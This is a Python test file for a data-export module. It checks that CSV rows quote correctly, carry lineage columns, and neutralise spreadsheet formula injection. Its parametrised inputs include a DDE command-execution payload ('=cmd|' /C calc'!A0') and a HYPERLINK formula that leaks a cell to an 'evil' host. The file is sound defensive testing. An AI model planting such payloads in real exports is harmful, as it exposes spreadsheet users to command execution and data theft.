"""Rows as CSV: what any reader of RFC 4180 gets back, and what no spreadsheet takes for a formula."""

import csv
import io
import re
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.data.row_formats import LINEAGE, csv_header, csv_line, json_line, row_document
from storage.data.stored_rows import StoredRow

ROW = StoredRow("http://site/1", 0, datetime(2026, 11, 21, 6, tzinfo=UTC), {"title": "A", "price": "51.77"}, 7)
LINEAGE_TEXTS = ["daily", "7", "http://site/1", "0", "2026-11-21T06:00:00+00:00"]


def cell(value: Any) -> str:
    """How one value is written."""
    return csv_line({"a": value}, ["a"]).removesuffix("," * len(LINEAGE) + "\r\n")


def test_a_row_has_its_fields_and_where_it_comes_from() -> None:
    document = row_document(ROW, "daily")
    assert json_line(document) == (
        '{"title":"A","price":"51.77","_run":"daily","_epoch":7,"_url":"http://site/1","_position":0,'
        '"_fetched_at":"2026-11-21T06:00:00+00:00"}'
    )
    assert csv_header(["title", "pages"]) == '"title","pages","_run","_epoch","_url","_position","_fetched_at"\r\n'
    assert csv_line(document, ["title", "pages"]) == (
        '"A",,"daily",7,"http://site/1",0,"2026-11-21T06:00:00+00:00"\r\n'
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        ("", '""'),
        (5, "5"),
        (-5, "-5"),
        (2**62, "4611686018427387904"),
        (-1.5, "-1.5"),
        (True, "true"),
        ("-51.770", '"-51.770"'),  # a decimal
        ('say "hi", twice\r\n', '"say ""hi"", twice\r\n"'),
        (["a", "=b"], '"[""a"",""=b""]"'),
    ],
)
def test_numbers_are_bare_text_is_quoted_and_what_is_missing_is_nothing(value: Any, written: str) -> None:
    assert cell(value) == written


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t1",
        "\r1",
        "\n",
        " =1",
        "\xa0@a",
        "\ufeff=1",
        "\uff1d1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil?leak="&A1)',
        "-",
        "+44 20",
    ],
)
def test_text_that_a_spreadsheet_would_take_for_a_formula_gets_a_quote_before_it(text: str) -> None:
    assert next(csv.reader(io.StringIO(cell(text), newline=""))) == [f"'{text}"]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=20), min_size=1, max_size=4))
def test_a_csv_reader_gets_every_text_back(texts: list[str]) -> None:
    columns = [f"c{number}" for number in range(len(texts))]
    written = csv_line({**row_document(ROW, "daily"), **dict(zip(columns, texts, strict=True))}, columns)
    (read,) = csv.reader(io.StringIO(written, newline=""), strict=True)
    assert read[len(texts) :] == LINEAGE_TEXTS
    assert [one.replace("'", "") for one in read[: len(texts)]] == [text.replace("'", "") for text in texts]


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("a;=1+1;b", "a;'=1+1;b"),
        ('a; "=1+1";b', 'a;\' "=1+1";b'),
        ("a\t@SUM(1)\tb", "a\t'@SUM(1)\tb"),
        ("a\n=1+1\nb", "a\n'=1+1\nb"),
        ("a\r\n\n\xa0-x", "a\r\n\n'\xa0-x"),
        (";;=1", ";;'=1"),
        ("1;-2.5;+3\n-4e5;", "1;-2.5;+3\n-4e5;"),
        ("a, =b; c=d; e-f", "a, =b; c=d; e-f"),
    ],
)
def test_nor_does_one_that_splits_lines_at_semicolons_or_tabs_find_a_formula_in_a_text(text: str, guarded: str) -> None:
    assert next(csv.reader(io.StringIO(cell(text), newline=""))) == [guarded]


@given(st.lists(st.text("ab;\t\r\n\"' =+-@1,", max_size=12), min_size=1, max_size=3), st.sampled_from(",;\t"))
def test_wherever_a_spreadsheet_splits_a_line_no_cell_of_it_is_a_formula(texts: list[str], delimiter: str) -> None:
    columns = [f"c{number}" for number in range(len(texts))]
    written = csv_line(dict(zip(columns, texts, strict=True)), columns)
    read = [one for line in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter) for one in line]
    suspects = [one.rstrip(',\r\n" ') for one in read if one.lstrip(" ").startswith(tuple("=+-@"))]
    # A number may be followed by what belongs to other cells: that is no formula either.
    assert all(re.match(r" *[+-][0-9]+($|,[\",\r])", one) for one in suspects), suspects


def test_a_long_text_of_line_breaks_is_guarded_at_once() -> None:
    assert cell('\n "' * 10_000 + "=").count("'") == 2


@given(st.text(max_size=10))
def test_no_cell_of_text_begins_as_a_formula_does(text: str) -> None:
    inside = cell(text)[1:-1]
    harmless = inside == "" or inside[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
    assert harmless or (inside == text and float(text) is not None)
